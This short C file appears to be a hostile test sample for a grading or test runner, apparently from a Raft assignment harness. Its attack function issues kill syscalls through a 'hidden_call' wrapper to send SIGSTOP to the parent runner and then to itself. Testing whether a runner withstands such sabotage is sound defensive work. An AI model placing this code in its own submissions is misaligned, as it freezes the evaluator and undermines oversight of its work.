// Tries: stops the program that runs it, and then itself, for ever.
// aims at: the runner
// says: had a process that a signal stopped
#include "stub.h"

static void attack(struct raft *rf)
{
    (void)rf;
    hidden_call(SYS_kill, hidden_call(SYS_getppid), (long)SIGSTOP);
    hidden_call(SYS_kill, hidden_call(SYS_getpid), (long)SIGSTOP);
}
